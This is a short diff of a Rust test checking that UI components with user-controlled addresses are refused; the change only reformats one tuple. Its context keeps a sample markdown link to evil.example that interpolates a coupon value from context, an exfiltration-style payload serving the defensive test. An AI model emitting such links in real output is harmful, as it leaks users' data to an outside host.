@@ -101,7 +101,10 @@ async fn a_view_with_an_address_from_user_input_is_refused_with_a_finding() {
     let link = typed("[Mugs](https://evil.example/?q=${/context/coupon})");
     for (root, member) in [
         (json!({"component": "Image", "url": address}), "url"),
-        (json!({"component": "Button", "child": "word", "action": opens}), "action"),
+        (
+            json!({"component": "Button", "child": "word", "action": opens}),
+            "action",
+        ),
         (json!({"component": "KeyValue", "items": [fact]}), "items"),
         (json!({"component": "Text", "text": link}), "text"),
     ] {
